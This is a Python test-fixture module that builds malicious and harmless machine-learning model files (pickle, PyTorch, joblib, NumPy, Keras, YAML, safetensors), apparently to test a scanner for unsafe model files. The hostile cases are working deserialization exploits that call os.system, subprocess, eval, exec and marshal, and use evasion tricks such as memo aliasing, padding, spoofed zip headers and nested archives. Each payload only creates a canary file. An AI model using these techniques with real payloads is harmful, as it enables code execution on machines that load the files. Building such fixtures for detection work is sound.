"""Files that would run code, each made here, with how to load it for real; and harmless files of the same formats.

Every payload only creates an empty file, the canary.
"""

import gzip
import io
import json
import marshal
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections import OrderedDict
from dataclasses import dataclass

import joblib
import numpy as np
import torch
from safetensors.torch import save as save_tensors

PICKLE = "pickle.load(open(path, 'rb'))"
TORCH = "torch.load(path, weights_only=False)"
JOBLIB = "joblib.load(path)"
NUMPY = "numpy.load(path, allow_pickle=True)"
SEEN = "with zipfile.ZipFile(path) as z: pickle.loads(z.read([n for n in z.namelist() if n.endswith('.pkl')][0]))"


@dataclass(frozen=True)
class Hostile:
    """``make(folder, canary)`` gives the bytes of ``file``; ``load`` is Python that sets it off, "" if that needs
    what is not installed or executes nothing. ``verdict`` is what an audit must say at least."""

    name: str
    file: str
    make: object
    load: str = PICKLE
    verdict: str = "findings"


def args(*values, protocol=2):
    return pickle.dumps(values, protocol)[2:-1]


def code(canary):
    return f"open({str(canary)!r}, 'w').close()"


def touch(canary):
    return f"touch '{canary}'"


def call(module, name, *values):
    """A pickle of protocol 2 that calls a name."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + args(*values) + b"R."


def short(text):
    return b"\x8c" + bytes([len(text)]) + text.encode()


def stacked(module, name, *values):
    """The same in protocol 4."""
    return b"\x80\x04" + short(module) + short(name) + b"\x93" + args(*values) + b"R."


class Call:
    """Pickles as a call."""

    def __init__(self, func, *values):
        self.func, self.values = func, values

    def __reduce__(self):
        return self.func, self.values


def system(canary):
    import os

    return Call(os.system, touch(canary))


def simple(name, target, values, load=PICKLE):
    """A kind that calls "module name" with values made from the canary."""
    return Hostile(name, "model.pkl", lambda folder, canary: call(*target.split(), *values(canary)), load)


def saved(write):
    held = io.BytesIO()
    write(held)
    return held.getvalue()


def torch_zip(payload, **changes):
    """A torch zip whose data.pkl is ``payload``."""
    source = saved(lambda f: torch.save({"w": torch.zeros(4)}, f))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            new.writestr(info.filename, payload if info.filename.endswith("data.pkl") else old.read(info), **changes)
    return out.getvalue()


def torch_legacy(payload):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return saved(lambda f: torch.save({"w": torch.zeros(4), "x": payload}, f, _use_new_zipfile_serialization=False))


def module_beside(folder, canary, name="beside.py"):
    (folder / name).write_text(code(canary) + "\ndef evil(*a, **k): pass\n")
    return folder / name


def imports(module, func, *values):
    def make(folder, canary):
        name = f"beside_{folder.name.replace('-', '_')}"
        module_beside(folder, canary, f"{name}.py")
        return call(module, func, *(v.format(name=name, folder=folder) if isinstance(v, str) else v for v in values))

    return make


def hidden_by_memo(folder, canary):
    """The names are kept in the memo first, under other strings."""
    keep = b"".join(short(s) + b"\x94" + b"0" for s in ("system", "a", "posix", "b"))
    return b"\x80\x04" + keep + b"h\x02h\x00\x93" + args(touch(canary)) + b"R."


def swapped_duplicate(folder, canary):
    return (
        b"\x80\x04" + short("posix") + b"2q\x050" + b"0h\x05" + short("system") + b"\x93" + args(touch(canary)) + b"R."
    )


def getattr_chain(folder, canary):
    module = b"cbuiltins\n__import__\n" + args("os") + b"R"
    return b"\x80\x02cbuiltins\ngetattr\n(" + module + b"X\6\0\0\0systemtR" + args(touch(canary)) + b"R."


def partial(folder, canary):
    bound = (
        b"cfunctools\npartial\n(cos\nsystem\n" + b"X" + struct.pack("<I", len(touch(canary))) + touch(canary).encode()
    )
    return b"\x80\x02" + bound + b"tR)R."


def method_caller(folder, canary):
    caller = b"coperator\nmethodcaller\n" + args("touch") + b"R"
    return b"\x80\x02" + caller + b"(cpathlib\nPosixPath\n" + args(str(canary)) + b"RtR."


def marshalled(folder, canary):
    program = marshal.dumps(compile(code(canary), "x", "exec"))
    loaded = b"cmarshal\nloads\nC" if len(program) < 256 else b"cmarshal\nloads\nB"
    size = bytes([len(program)]) if len(program) < 256 else struct.pack("<I", len(program))
    made = b"ctypes\nFunctionType\n(" + loaded + size + program + b"\x85R" + b"cbuiltins\nglobals\n)RtR"
    return b"\x80\x03" + made + b")R."


def nested_bytes(folder, canary):
    inner = call("os", "system", touch(canary))
    return b"\x80\x03cpickle\nloads\nC" + bytes([len(inner)]) + inner + b"\x85R."


def loads_bytes(folder, canary):
    inner = torch_zip(pickle.dumps(system(canary), 2))
    return b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."


def rebuilt(folder, canary):
    inner = torch_zip(pickle.dumps(system(canary), 2))
    func = b"ctorch._tensor\n_rebuild_from_type_v2\n(ctorch.storage\n_load_from_bytes\nctorch\nTensor\nB"
    return b"\x80\x03" + func + struct.pack("<I", len(inner)) + inner + b"\x85}tR."


def ufunc(folder, canary):
    name = args("os", "system")
    return b"\x80\x02cnumpy.core\n_ufunc_reconstruct\n" + name + b"R" + args(touch(canary)) + b"R."


def with_setstate(folder, canary):
    """A distribution of scipy whose own __setstate__ runs a text from its state as code."""
    state = {
        "_parse_arg_template": code(canary) + "\n_parse_args = _parse_args_rvs = _parse_args_stats = print",
        "_ctor_param": (),
        "_random_state": None,
    }
    empty = pickle.dumps(state, 2)[2:-1]
    return b"\x80\x02cscipy.stats._continuous_distns\nnorm_gen\n)\x81" + empty + b"b."


def sub_build(folder, canary):
    """Attributes of a class are replaced by BUILD, then the class is used."""
    attributes = b"(N}X\6\0\0\0appendcos\nsystem\nst"
    start = b"\x80\x02csklearn.base\nTransformerMixin\n" + attributes + b"b0"
    return start + b"cos\nsystem\n" + args(touch(canary)) + b"R."


def inst(folder, canary):
    return b"(S'" + touch(canary).replace("'", "\\x27").encode() + b"'\nios\nsystem\n."


def obj(folder, canary):
    return (
        b"\x80\x02(csubprocess\nPopen\n](X\5\0\0\0touchX"
        + struct.pack("<I", len(str(canary)))
        + str(canary).encode()
        + b"eo."
    )


def padded(folder, canary):
    return pickle.dumps({"w": [1, 2]}) + bytes(5000) + call("os", "system", touch(canary))


def npz(payload):
    held = io.BytesIO()
    np.savez(held, w=np.zeros(3), x=np.array([payload], dtype=object))
    return held.getvalue()


def tar(folder, canary):
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        for name, data in {
            "sys_info": pickle.dumps({}),
            "pickle": pickle.dumps(1),
            "tensors": pickle.dumps(0),
        }.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        data = call("os", "system", touch(canary))
        info = tarfile.TarInfo("storages")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return held.getvalue()


def nested_zip(folder, canary):
    held = torch_zip(pickle.dumps(system(canary), 2))
    for name in ("weights.pt", "inner.zip"):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, held)
        held = out.getvalue()
    return held


def patched_zip(change):
    def make(folder, canary):
        return change(bytearray(torch_zip(pickle.dumps(system(canary), 2))))

    return make


def spoofed(raw):
    """The header before the member has another name than the directory at the end."""
    at = raw.index(b"data.pkl")
    raw[at : at + 8] = b"data.txt"
    return bytes(raw)


def wrong_checksum(raw):
    at = raw.rindex(b"PK\1\2", 0, raw.rindex(b"data.pkl"))
    raw[at + 16 : at + 20] = b"\1\2\3\4"
    return bytes(raw)


def marked_encrypted(raw):
    for sign, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = -1
        while (at := raw.find(sign, at + 1)) >= 0:
            raw[at + offset] |= 1
    return bytes(raw)


def unlisted(folder, canary):
    """A member that the directory does not list."""
    member = saved(lambda f: _zip(f, {"hidden.pkl": call("os", "system", touch(canary))}))
    outer = saved(lambda f: _zip(f, {"a.txt": b"text"}))
    return member[: member.index(b"PK\1\2")] + outer


def _zip(file, members, method=zipfile.ZIP_STORED):
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def joblib_array(folder, canary):
    held = io.BytesIO()
    joblib.dump([np.arange(1000.0), system(canary)], held)
    return held.getvalue()


def joblib_objects(folder, canary):
    return saved(lambda f: joblib.dump({"x": np.array([system(canary)], dtype=object)}, f))


def joblib_frame(folder, canary):
    """A frame that goes on behind an array's wrapper: the array's bytes come after the frame."""
    whole = saved(lambda f: joblib.dump(np.zeros(64, np.uint8), f, protocol=4))
    build = whole.index(b"K\x10ub") + 4
    head, rest = whole[:build], whole[build:]
    at = head.rindex(b"\x95")
    tail = b"0" + call("os", "system", touch(canary))[2:]
    length = struct.unpack("<Q", head[at + 1 : at + 9])[0] + len(tail)
    return head[: at + 1] + struct.pack("<Q", length) + head[at + 9 :] + tail + rest[:-1]


def joblib_compressed(method):
    def make(folder, canary):
        return saved(lambda f: joblib.dump({"w": np.arange(100), "x": system(canary)}, f, compress=(method, 3)))

    return make


def keras_config(*layers, **top):
    return json.dumps({"class_name": "Sequential", "config": {"name": "m", "layers": list(layers)}, **top})


DENSE = {
    "module": "keras.layers",
    "class_name": "Dense",
    "config": {"units": 2, "activation": "relu"},
    "registered_name": None,
}
LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}}},
    "registered_name": None,
}
FOREIGN = {"module": "os", "class_name": "system", "config": {}, "registered_name": None}
GET_FILE = {
    "module": "keras.layers",
    "class_name": "Activation",
    "config": {"activation": {"module": "keras.utils", "class_name": "function", "config": "get_file"}},
}


def keras_zip(*layers):
    return saved(
        lambda f: _zip(f, {"metadata.json": b"{}", "config.json": keras_config(*layers), "model.weights.h5": b""})
    )


def hdf5(config):
    """An HDF5 file with the attribute model_config; without h5py a signature and the text."""
    try:
        import h5py
    except ImportError:
        return b"\x89HDF\r\n\x1a\n" + bytes(88) + config.encode() + bytes(64)
    held = io.BytesIO()
    with h5py.File(held, "w") as file:
        file.attrs["model_config"] = config
        file.create_dataset("w", data=np.zeros(3))
    return held.getvalue()


def tensors(header, data=b"", length=None):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def tensor(start, end, shape=(1,), dtype="F32"):
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [start, end]}


def bad(name, content, file="model.safetensors"):
    return Hostile(name, file, lambda folder, canary: content, "")


def torchscript():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return saved(lambda f: torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), f))


TWICE = "f = open(path, 'rb'); pickle.load(f); pickle.load(f)"
HOSTILE = [
    Hostile("os.system, protocol 0", "model.pkl", lambda f, c: pickle.dumps(system(c), 0)),
    Hostile("os.system, protocol 4", "model.pkl", lambda f, c: pickle.dumps(system(c), 4)),
    simple("subprocess.check_call", "subprocess check_call", lambda c: (["touch", str(c)],)),
    simple("subprocess.Popen", "subprocess Popen", lambda c: (["touch", str(c)],)),
    simple("pty.spawn", "pty spawn", lambda c: (["touch", str(c)],)),
    simple("builtins.eval", "builtins eval", lambda c: (code(c),)),
    simple("builtins.exec", "builtins exec", lambda c: (code(c),)),
    simple("__builtin__.eval of Python 2", "__builtin__ eval", lambda c: (code(c),)),
    simple("timeit.timeit", "timeit timeit", lambda c: ("0", code(c))),
    Hostile("importlib.import_module", "model.pkl", imports("importlib", "import_module", "{name}")),
    Hostile("pydoc.locate", "model.pkl", imports("pydoc", "locate", "{name}.evil")),
    Hostile("runpy.run_path", "model.pkl", imports("runpy", "run_path", "{folder}/{name}.py")),
    Hostile("pkgutil.resolve_name", "model.pkl", imports("pkgutil", "resolve_name", "{name}:evil")),
    simple("cProfile.run", "cProfile run", lambda c: (code(c),)),
    simple("profile.run", "profile run", lambda c: (code(c),)),
    simple("numpy.testing runstring", "numpy.testing._private.utils runstring", lambda c: (code(c), {})),
    Hostile("numpy ufunc by name", "model.pkl", ufunc),
    Hostile("scipy distribution with code in its state", "model.pkl", with_setstate),
    Hostile("getattr chain", "model.pkl", getattr_chain),
    Hostile("functools.partial", "model.pkl", partial),
    Hostile("operator.methodcaller", "model.pkl", method_caller),
    Hostile("marshal and types.FunctionType", "model.pkl", marshalled),
    Hostile("pickle.loads of bytes", "model.pkl", nested_bytes),
    Hostile("torch file in bytes", "model.pkl", loads_bytes),
    Hostile("torch rebuild that calls a loader", "model.pkl", rebuilt),
    Hostile("names from the memo", "model.pkl", hidden_by_memo),
    Hostile("names duplicated and stored", "model.pkl", swapped_duplicate),
    Hostile("INST opcode", "model.pkl", inst),
    Hostile("OBJ opcode", "model.pkl", obj),
    Hostile("attributes replaced by BUILD", "model.pkl", sub_build),
    Hostile(
        "extension registry",
        "model.pkl",
        lambda f, c: b"\x80\x02\x82\x01" + args(touch(c)) + b"R.",
        "copyreg.add_extension('posix', 'system', 1); " + PICKLE,
    ),
    Hostile("dotted name", "model.pkl", lambda f, c: stacked("torch.serialization", "os.system", touch(c))),
    Hostile(
        "method of an allowed class",
        "model.pkl",
        lambda f, c: (
            b"\x80\x04"
            + short("pathlib")
            + short("Path.touch")
            + b"\x93cpathlib\nPosixPath\n"
            + args(str(c))
            + b"R\x85R."
        ),
    ),
    simple("pip.main", "pip main", lambda c: (["debug", "--log", str(c)],)),
    simple("webbrowser.open", "webbrowser open", lambda c: (str(c),)),
    simple("socketserver", "socketserver UnixStreamServer", lambda c: (str(c), None)),
    simple("socket.create_connection", "socket create_connection", lambda c: (("127.0.0.1", 9),), load=""),
    simple("logging.FileHandler", "logging FileHandler", lambda c: (str(c),)),
    simple("shutil.copy", "shutil copy", lambda c: ("/etc/hostname", str(c))),
    simple(
        "numpy.save", "numpy save", lambda c: (str(c), 1), load=PICKLE + "; os.rename(str(canary) + '.npy', canary)"
    ),
    Hostile(
        "joblib.load of another file",
        "model.pkl",
        lambda f, c: (
            (f / "other.bin").write_bytes(pickle.dumps(system(c))) and call("joblib", "load", str(f / "other.bin"))
        ),
    ),
    Hostile(
        "torch.hub",
        "model.pkl",
        lambda f, c: module_beside(f, c, "hubconf.py") and call("torch.hub", "_load_local", str(f), "evil"),
    ),
    Hostile("second stream", "model.pkl", lambda f, c: pickle.dumps([1]) + call("os", "system", touch(c)), TWICE),
    Hostile(
        "hidden behind padding",
        "model.pkl",
        padded,
        "d = open(path, 'rb').read(); pickle.loads(d[d.rindex(b'\\x80\\x02c'):])",
    ),
    Hostile("broken tail", "model.pkl", lambda f, c: call("os", "system", touch(c))[:-1] + b"\xff\xff\xff"),
    Hostile("cut off before STOP", "model.pkl", lambda f, c: call("os", "system", touch(c))[:-1]),
    Hostile("wrong extension .txt", "notes.txt", lambda f, c: pickle.dumps(system(c), 0)),
    Hostile("wrong extension .safetensors", "model.safetensors", lambda f, c: pickle.dumps(system(c), 4)),
    Hostile("no head, protocol 0 without PROTO", "weights.bin", lambda f, c: call("os", "system", touch(c))[2:]),
    Hostile("torch zip", "model.pt", lambda f, c: torch_zip(pickle.dumps(system(c), 2)), TORCH),
    Hostile("torch zip, cProfile.run", "model.pt", lambda f, c: torch_zip(call("cProfile", "run", code(c))), TORCH),
    Hostile("torch zip, wrong extension", "model.jpg", lambda f, c: torch_zip(pickle.dumps(system(c), 2)), TORCH),
    Hostile("torch legacy, os.system", "model.pt", lambda f, c: torch_legacy(system(c)), TORCH),
    Hostile(
        "torch legacy, timeit",
        "model.bin",
        lambda f, c: torch_legacy(Call(__import__("timeit").timeit, "0", code(c))),
        TORCH,
    ),
    Hostile("torch tar", "model.pth", tar, TORCH),
    Hostile("torch zip, spoofed names", "model.pt", patched_zip(spoofed), TORCH),
    Hostile("torch zip, wrong checksum", "model.pt", patched_zip(wrong_checksum), TORCH),
    Hostile("torch zip, marked as encrypted", "model.pt", patched_zip(marked_encrypted), ""),
    Hostile(
        "torch zip, bytes before it",
        "model.pt",
        lambda f, c: b"#!text\n" + torch_zip(pickle.dumps(system(c), 2)),
        SEEN,
    ),
    Hostile("zip in a zip in a zip", "model.zip", nested_zip, ""),
    Hostile(
        "zip member not in the directory",
        "model.zip",
        unlisted,
        "d = open(path, 'rb').read(); pickle.loads(d[d.index(b'\\x80\\x02c'):])",
    ),
    Hostile("TorchScript", "model.pt", lambda f, c: torchscript(), ""),
    Hostile(
        "npy of objects",
        "x.npy",
        lambda f, c: saved(lambda h: np.save(h, np.array([system(c)], dtype=object))),
        NUMPY,
    ),
    Hostile("npz member of objects", "x.npz", lambda f, c: npz(system(c)), NUMPY + "['x']"),
    Hostile(
        "npy behind another npy",
        "x.npy",
        lambda f, c: (
            saved(lambda h: np.save(h, np.zeros(3))) + saved(lambda h: np.save(h, np.array([system(c)], dtype=object)))
        ),
        "f = open(path, 'rb'); numpy.load(f); numpy.load(f, allow_pickle=True)",
    ),
    Hostile("joblib with arrays", "model.joblib", joblib_array, JOBLIB),
    Hostile("joblib array of objects", "model.joblib", joblib_objects, JOBLIB),
    Hostile("joblib, a frame behind an array", "model.joblib", joblib_frame, JOBLIB),
    *(
        Hostile(f"joblib {m}", "model.joblib", joblib_compressed(m), JOBLIB)
        for m in ("zlib", "gzip", "bz2", "xz", "lzma")
    ),
    Hostile(
        "gzip in gzip",
        "model.pkl.gz",
        lambda f, c: gzip.compress(gzip.compress(pickle.dumps(system(c)))),
        "pickle.loads(gzip.decompress(gzip.decompress(open(path, 'rb').read())))",
    ),
    bad("Keras h5 Lambda", hdf5(keras_config(DENSE, LAMBDA)), "model.h5"),
    bad("Keras zip Lambda", keras_zip(DENSE, LAMBDA), "model.keras"),
    bad("Keras zip foreign module", keras_zip(DENSE, FOREIGN), "model.keras"),
    bad("Keras zip get_file", keras_zip(DENSE, GET_FILE), "model.keras"),
    bad("YAML Python object", b"a: !!python/object/apply:os.system ['true']\n", "config.yaml"),
    bad("safetensors header too long", tensors({}, length=1 << 33)),
    bad("safetensors no JSON", tensors(b'{"a":')),
    bad(
        "safetensors key twice",
        tensors(
            b'{"a":' + json.dumps(tensor(0, 4)).encode() + b',"a":' + json.dumps(tensor(0, 4)).encode() + b"}",
            bytes(4),
        ),
    ),
    bad("safetensors overlap", tensors({"a": tensor(0, 4), "b": tensor(2, 6)}, bytes(6))),
    bad("safetensors hole", tensors({"a": tensor(0, 4), "b": tensor(8, 12)}, bytes(12))),
    bad("safetensors out of range", tensors({"a": tensor(0, 400, (100,))}, bytes(4))),
    bad("safetensors wrong shape", tensors({"a": tensor(0, 4, (3,))}, bytes(4))),
    bad("safetensors metadata", tensors({"__metadata__": {"a": 1}, "a": tensor(0, 4)}, bytes(4))),
    Hostile(
        "safetensors with a zip behind",
        "model.safetensors",
        lambda f, c: tensors({"a": tensor(0, 4)}, bytes(4)) + torch_zip(pickle.dumps(system(c), 2)),
        SEEN,
    ),
]


def _estimators():
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import load_iris
    from sklearn.ensemble import GradientBoostingClassifier, HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import CountVectorizer, TfidfVectorizer
    from sklearn.feature_selection import SelectKBest
    from sklearn.gaussian_process import GaussianProcessRegressor
    from sklearn.linear_model import LogisticRegression, SGDClassifier
    from sklearn.model_selection import GridSearchCV
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.svm import SVC

    x, y = load_iris(return_X_y=True)
    words = ["one two", "two three", "three four five"]
    yield "random forest", RandomForestClassifier(3, random_state=0).fit(x, y)
    yield "gradient boosting", GradientBoostingClassifier(n_estimators=2).fit(x, y)
    yield "histogram boosting", HistGradientBoostingClassifier(max_iter=2).fit(x, y)
    yield "SVC", SVC().fit(x, y)
    yield "nearest neighbours", KNeighborsClassifier(algorithm="kd_tree").fit(x, y)
    yield "grid search", GridSearchCV(LogisticRegression(), {"C": [1, 2]}, cv=2, scoring="accuracy").fit(x, y)
    yield "pipeline", make_pipeline(StandardScaler(), SelectKBest(k=2), SGDClassifier()).fit(x, y)
    yield "column transformer", ColumnTransformer([("s", StandardScaler(), [0, 1])]).fit(x)
    yield "count vectorizer", CountVectorizer().fit(words)
    yield "tf-idf vectorizer", TfidfVectorizer().fit(words)
    yield "k-means", KMeans(2, n_init=1).fit(x)
    yield "Gaussian process", GaussianProcessRegressor(optimizer=None).fit(x[:20], y[:20])


def harmless():
    """(name, file, bytes) of files that nobody should be warned of."""
    from scipy import sparse

    def torch_file(value, **options):
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            return saved(lambda f: torch.save(value, f, **options))

    net = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    adam = torch.optim.Adam(net.parameters())
    net[3](torch.zeros(1, 4)).sum().backward()
    adam.step()
    old = {"_use_new_zipfile_serialization": False}
    yield "torch state dict", "model.pt", torch_file(net.state_dict())
    yield "torch state dict, legacy", "model.pth", torch_file(net.state_dict(), **old)
    yield "torch bfloat16", "pytorch_model.bin", torch_file({k: v.bfloat16() for k, v in net.state_dict().items()})
    yield "torch whole module", "model.pt", torch_file(net)
    yield "torch whole module, legacy", "model.pt", torch_file(net, **old)
    yield "torch transformer layer", "model.pt", torch_file(torch.nn.TransformerEncoderLayer(8, 2, 8))
    checkpoint = {
        "epoch": 3,
        "model": net.state_dict(),
        "optimizer": adam.state_dict(),
        "best": 0.5,
        "args": OrderedDict(a=1),
    }
    yield "torch checkpoint", "last.ckpt", torch_file(checkpoint)
    yield "torch sparse", "t.pt", torch_file([torch.eye(3).to_sparse(), torch.Size([2]), torch.device("cpu")])
    yield "torch tensor in a plain pickle", "t.pkl", pickle.dumps(torch.arange(5))
    for name, model in _estimators():
        yield name, "model.joblib", saved(lambda f, m=model: joblib.dump(m, f))
        yield f"{name}, pickle", "model.pkl", pickle.dumps(model)
    forest = next(m for n, m in _estimators() if n == "random forest")
    for method in ("zlib", "gzip", "bz2", "xz", "lzma"):
        yield f"joblib {method}", "model.joblib", saved(lambda f, m=method: joblib.dump(forest, f, compress=(m, 3)))
    for protocol in range(6):
        values = {"a": np.arange(5.0), "b": {1, 2}, "c": (1, "x", b"y", 2.5, None), "d": np.float32(3), "e": range(4)}
        yield f"pickle, protocol {protocol}", "values.pkl", pickle.dumps(values, protocol)
    yield "sparse matrix", "m.joblib", saved(lambda f: joblib.dump(sparse.random(9, 9, 0.2, "csr"), f))
    yield "npy", "x.npy", saved(lambda f: np.save(f, np.zeros((3, 4), np.float32)))
    yield "npy with fields", "x.npy", saved(lambda f: np.save(f, np.zeros(3, [("a", "i4"), ("b", "f8", 2)])))
    yield "npz", "x.npz", saved(lambda f: np.savez(f, a=np.zeros(3), b=np.array(["x", "yz"])))
    yield "npz compressed", "x.npz", saved(lambda f: np.savez_compressed(f, a=np.arange(30)))
    yield (
        "safetensors",
        "model.safetensors",
        save_tensors({"a": torch.zeros(2, 3), "b": torch.ones(4)}, {"format": "pt"}),
    )
    yield "Keras zip", "model.keras", keras_zip(DENSE)
    yield "Keras h5", "model.h5", hdf5(keras_config(DENSE))
    yield "Hugging Face config", "config.json", json.dumps({"model_type": "bert", "hidden_size": 8}).encode()
    yield "read me", "README.md", "# A model\n\ncolour … and more\n".encode()
